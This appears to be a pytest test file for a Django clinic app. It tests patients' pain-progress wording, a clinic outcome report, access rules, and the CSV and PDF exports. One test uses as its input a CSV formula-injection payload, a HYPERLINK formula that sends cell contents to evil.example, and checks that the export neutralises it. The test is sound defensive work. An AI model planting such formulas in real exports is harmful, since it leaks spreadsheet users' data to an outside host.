"""The patient's progress page and the clinic outcome report: words, figures, access, queries."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from careplans.models import PlanStatus
from checkins.models import PainCheckIn
from outcomes.recompute import outcome_refresh_all
from tests.conftest import login, record_figure
from tests.factories import CarePlanFactory, PatientFactory, TherapistFactory

pytestmark = pytest.mark.django_db


def plan_with(
    patient: Any, therapist: Any, readings: list[tuple[int, int]], *, days_ago: int = 100, **kw: Any
) -> Any:
    start = timezone.localdate() - timedelta(days=days_ago)
    plan = CarePlanFactory(patient=patient, therapist=therapist, start_date=start, **kw)
    PainCheckIn.objects.bulk_create(
        PainCheckIn(patient=patient, plan=plan, local_date=start + timedelta(days=d), nprs=v)
        for d, v in readings
    )
    return plan


# --- progress ------------------------------------------------------------------


def test_progress_says_how_much_lower_in_plain_words(client: Client, personas: Any) -> None:
    # Baseline 7, last 7 days average 4: 3 points lower, a 43% reduction.
    plan_with(personas.patient_a, personas.owner, [(0, 7), (1, 7), (30, 4), (31, 4)], days_ago=40)
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "Your pain is 3 points lower than when you started, a 43% reduction." in body
    assert 'role="img"' in body  # the chart


def test_progress_in_week_one_says_the_first_week_sets_the_starting_point(
    client: Client, personas: Any
) -> None:
    plan_with(personas.patient_a, personas.owner, [], days_ago=2)
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "Your first week sets your starting point." in body
    assert "Check in on any day of your first week" in body


def test_progress_when_pain_went_up(client: Client, personas: Any) -> None:
    plan_with(personas.patient_a, personas.owner, [(0, 3), (20, 6)], days_ago=25)
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "Your pain is 3 points higher than when you started (100% more)." in body


def test_progress_without_a_plan(client: Client, personas: Any) -> None:
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "You don't have a care plan yet." in body


def test_progress_shows_only_the_patients_own_plan(client: Client, personas: Any) -> None:
    plan_with(personas.patient_b, personas.owner, [(0, 9), (20, 1)], days_ago=25)
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "You don't have a care plan yet." in body


@pytest.mark.parametrize("who", ["owner", "outsider"])
def test_therapists_cannot_open_the_progress_page(client: Client, personas: Any, who: str) -> None:
    assert login(client, getattr(personas, who).user).get(reverse("progress")).status_code == 404


def test_progress_needs_login(client: Client) -> None:
    assert client.get(reverse("progress")).status_code == 302


# --- the clinic report ------------------------------------------------------------


def seed_clinic(personas: Any) -> None:
    """Owner: a responder (-50%), a non-responder (-25%), one missing endpoint, one not at week 12.
    Colleague: a responder (-60%). Outsider's clinic: a plan that must never show up."""
    owner, colleague = personas.owner, personas.colleague
    clinic = personas.clinic
    plan_with(personas.patient_a, owner, [(0, 8), (80, 4)], condition="Low back pain")
    plan_with(personas.patient_b, owner, [(0, 8), (80, 6)], condition="Neck pain")
    plan_with(PatientFactory(clinic=clinic), owner, [(0, 6), (40, 5)], condition="Low back pain")
    plan_with(PatientFactory(clinic=clinic), owner, [(0, 6), (40, 1)], days_ago=50, condition="Low back pain")
    plan_with(PatientFactory(clinic=clinic), colleague, [(0, 5), (78, 2)], condition="Low back pain")
    outsider_patient = PatientFactory(clinic=personas.other_clinic)
    plan_with(outsider_patient, personas.outsider, [(0, 9), (80, 0)], condition="Knee pain")
    outcome_refresh_all()


def test_report_figures_count_missing_endpoints(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    response = login(client, personas.colleague.user).get(reverse("outcome-report"))
    report = response.context["report"]
    o = report.overall
    assert (o.reached, o.itt, o.completers, o.missing) == (4, 4, 3, 1)
    assert o.percent.value == pytest.approx((-50 - 25 - 60) / 3)
    assert o.percent_quartiles.median == pytest.approx(-50.0)
    # Group means: baselines 8, 8, 5 -> 7; endpoints 4, 6, 2 -> 4; (4 - 7) / 7.
    assert o.group_means_percent == pytest.approx(-300 / 7)
    assert (o.responders.count, o.responders.n) == (2, 3)
    assert o.responders_itt.percent == pytest.approx(50.0)
    # The plan without an endpoint: baseline 6, latest 5: -1 point, not a responder either way.
    assert (o.responders_locf.count, o.responders_locf.n) == (2, 4)
    assert [step.count for step in o.flow] == [5, 5, 5, 5, 4, 3]
    rows = {t.label: t for t in report.by_therapist}
    assert rows["Olive Owner"].itt == 3 and rows["Olive Owner"].missing == 1
    assert rows["Colin Colleague"].percent_quartiles.median == pytest.approx(-60.0)
    assert "Otto Outsider" not in rows
    body = response.content.decode()
    assert "Intention to treat" in body and "Responders, completers" in body and "control group" in body
    assert 'role="img"' in body and "<table" in body


def test_outsider_sees_only_their_own_clinics_figures(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    report = login(client, personas.outsider.user).get(reverse("outcome-report")).context["report"]
    assert report.overall.reached == 1
    assert report.overall.percent.value == -100.0
    assert [t.label for t in report.by_therapist] == ["Otto Outsider"]


@pytest.mark.parametrize("who", ["patient_a", "patient_b"])
def test_patients_cannot_see_the_report(client: Client, personas: Any, who: str) -> None:
    user = getattr(personas, who).user
    assert login(client, user).get(reverse("outcome-report")).status_code == 404
    assert client.get(reverse("outcome-report") + "?format=csv").status_code == 404
    assert client.get(reverse("outcome-report") + "?format=pdf").status_code == 404


def test_report_refuses_another_clinics_therapist_and_a_half_comparison_period(
    client: Client, personas: Any
) -> None:
    seed_clinic(personas)
    login(client, personas.owner.user)
    response = client.get(reverse("outcome-report"), {"therapist": str(personas.outsider.pk)})
    assert response.status_code == 200
    body = response.content.decode()
    assert "Select a valid choice" in body and "The report was not made" in body
    # No figures at all: the clinic's whole would be read as the answer for the filter.
    assert response.context["report"] is None
    csv_response = client.get(reverse("outcome-report"), {"therapist": "999999", "format": "csv"})
    assert csv_response.status_code == 400
    assert csv_response.content.decode().startswith("The report was not made")
    pdf_response = client.get(reverse("outcome-report"), {"start_from": "garbage", "format": "pdf"})
    assert (
        pdf_response.status_code == 400 and "start_from: Enter a valid date." in pdf_response.content.decode()
    )
    response = client.get(reverse("outcome-report"), {"compare_from": "2026-01-01"})
    assert "Give both dates of the period to compare with." in response.content.decode()
    assert response.context["report"] is None
    # Both given, the wrong way round: one message, about the order only.
    response = client.get(
        reverse("outcome-report"), {"compare_from": "2026-09-30", "compare_to": "2026-07-01"}
    )
    body = response.content.decode()
    assert "Must be on or after" in body and "Give both dates" not in body


def test_report_compares_two_periods(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    login(client, personas.owner.user)
    today = timezone.localdate()
    response = client.get(
        reverse("outcome-report"),
        {
            "start_from": (today - timedelta(days=120)).isoformat(),
            "start_to": today.isoformat(),
            "compare_from": "2020-01-01",
            "compare_to": "2020-03-31",
        },
    )
    assert response.context["report"].overall.itt == 4
    assert response.context["compared"].overall.itt == 0
    assert "This period against the comparison period" in response.content.decode()


def test_report_filters_by_condition_and_start_date(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    login(client, personas.owner.user)
    report = client.get(reverse("outcome-report"), {"condition": "Neck pain"}).context["report"]
    assert report.overall.reached == 1 and report.overall.percent.value == pytest.approx(-25.0)
    later = (timezone.localdate() - timedelta(days=99)).isoformat()
    report = client.get(reverse("outcome-report"), {"start_from": later}).context["report"]
    assert report.overall.reached == 0


def test_report_refuses_a_backwards_date_range_with_a_message(client: Client, personas: Any) -> None:
    response = login(client, personas.owner.user).get(
        reverse("outcome-report"), {"start_from": "2026-05-01", "start_to": "2026-01-01"}
    )
    assert response.status_code == 200
    assert "Must be on or after" in response.content.decode()


def test_report_downloads_as_csv(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    figures = {(r["group"], r["measure"]): r for r in rows}
    assert rows[0]["section"] == "about" and rows[0]["measure"].startswith("figures as of ")
    assert rows[1]["measure"] == "Plans starting at any time"
    missing = figures["All therapists", "missing endpoint"]
    assert (missing["n"], missing["count"]) == ("4", "1")
    itt = figures["All therapists", "responders, intention to treat (%)"]
    # 2 of 4: Wilson's 95% interval is 15.00% to 85.00%.
    assert (itt["n"], itt["count"], itt["value"], itt["ci95_low"], itt["ci95_high"]) == (
        "4",
        "2",
        "50.00",
        "15.00",
        "85.00",
    )
    # A band's name starts with a letter: no spreadsheet guard quote in front of "-100%".
    assert figures["All therapists", "percent change -100% to -90%"]["count"] == "0"
    # A reduction is a negative number, written as one (never quoted into text).
    assert figures["All therapists", "percent change (mean of individual), completers"]["median"] == "-50.00"
    assert {r["group"] for r in rows if r["section"] == "change"} == {
        "All therapists",
        "Olive Owner",
        "Colin Colleague",
    }


def test_report_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    personas.colleague.user.full_name = "Zoë Łącka"
    personas.colleague.user.save()
    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
    assert response.content.startswith(b"\xef\xbb\xbfperiod,section,group,")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "Zoë Łącka" in {r["group"] for r in rows}


def test_report_csv_neutralises_a_formula_in_a_name(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    personas.colleague.user.full_name = formula
    personas.colleague.user.save()
    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert formula not in {r["group"] for r in rows}
    figures = {r["measure"]: r for r in rows if r["group"] == "'" + formula}
    assert figures["completers"]["n"] == "1"
    assert figures["percent change (mean of individual), completers"]["median"] == "-60.00"


def _report_queries(client: Client, user: Any, django_assert_max_num_queries: Any, limit: int) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    login(client, user)
    # A first request lets session middleware do its occasional write, which is not the page's.
    client.get(reverse("outcome-report"))
    with django_assert_max_num_queries(limit), CaptureQueriesContext(connection) as ctx:
        assert client.get(reverse("outcome-report")).status_code == 200
    return len(ctx.captured_queries)


def test_report_query_count_does_not_grow_with_plans(
    client: Client, personas: Any, django_assert_max_num_queries: Any
) -> None:
    owner = personas.owner
    for _ in range(5):
        plan_with(PatientFactory(clinic=personas.clinic), owner, [(0, 7), (80, 3)])
    outcome_refresh_all()
    few = _report_queries(client, owner.user, django_assert_max_num_queries, 10)
    therapists = [TherapistFactory(clinic=personas.clinic) for _ in range(4)]
    for k in range(45):
        plan_with(
            PatientFactory(clinic=personas.clinic),
            therapists[k % 4],
            [(0, 6), (79, 5)],
            condition=f"C{k % 7}",
        )
    outcome_refresh_all()
    many = _report_queries(client, owner.user, django_assert_max_num_queries, 10)
    assert few == many
    record_figure(f"queries: outcome report {few} at 5 plans of 1 therapist and 50 of 5 (pinned at most 10)")


def test_draft_plans_are_not_in_the_report(client: Client, personas: Any) -> None:
    plan_with(personas.patient_a, personas.owner, [(0, 7), (80, 3)], status=PlanStatus.DRAFT)
    outcome_refresh_all()
    report = login(client, personas.owner.user).get(reverse("outcome-report")).context["report"]
    assert report.overall.reached == 0


def test_progress_words_add_up_after_rounding(client: Client, personas: Any) -> None:
    # Baseline (7+7+7+6)/4 = 6.75 shows as 6.8; now 1.5; so 5.3 points lower (not 5.2), 78%.
    plan_with(
        personas.patient_a, personas.owner, [(0, 7), (1, 7), (2, 7), (3, 6), (30, 1), (31, 2)], days_ago=40
    )
    body = login(client, personas.patient_a.user).get(reverse("progress")).content.decode()
    assert "Your pain is 5.3 points lower than when you started, a 78% reduction." in body
    assert "You started at 6.8 out of 10 and your pain is now 1.5." in body


def test_report_downloads_as_a_two_page_pdf_with_the_figures(
    client: Client, personas: Any, artifacts: Path
) -> None:
    import pypdfium2

    seed_clinic(personas)
    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "pdf"})
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="outcomes-')
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) == 2
    text = " ".join(page.extract_text() for page in reader.pages)
    for words in ("Outcomes at 12 weeks: Northside Physio", "Flow of plans", "intention to treat", "control"):
        assert words.lower() in " ".join(text.split()).lower(), words
    # The pages as a reader sees them, kept for review.
    document = pypdfium2.PdfDocument(response.content)
    for number, page in enumerate(document, start=1):
        page.render(scale=1.5).to_pil().save(artifacts / f"outcome-report-pdf-page{number}.png")


def test_the_pdf_of_eight_therapists_with_a_comparison_is_two_pages(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    for k in range(8):
        therapist = TherapistFactory(clinic=personas.clinic, user__full_name=f"Therapist Number {k}")
        plan_with(PatientFactory(clinic=personas.clinic), therapist, [(0, 6 + k % 3), (80, 2 + k % 4)])
    outcome_refresh_all()
    today = timezone.localdate()
    query = {
        "start_from": (today - timedelta(days=120)).isoformat(),
        "start_to": today.isoformat(),
        "compare_from": "2020-01-01",
        "compare_to": "2020-03-31",
        "format": "pdf",
    }
    response = login(client, personas.owner.user).get(reverse("outcome-report"), query)
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) == 2
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "Therapist Number 7" in text and "Against the comparison period" in text


def test_the_csv_of_one_therapist_counts_each_figure_once(client: Client, personas: Any) -> None:
    seed_clinic(personas)
    query = {"therapist": str(personas.owner.pk), "format": "csv"}
    response = login(client, personas.owner.user).get(reverse("outcome-report"), query)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r["group"] for r in rows if r["section"] not in ("about", "severity")} == {"Olive Owner"}
    completers = [r for r in rows if r["measure"] == "completers"]
    assert [r["n"] for r in completers] == ["2"]
    # The plan still before week 12 is in the flow, as not lost.
    assert any(r["measure"] == "still before 'Week 12 over' (not lost)" and r["count"] == "1" for r in rows)
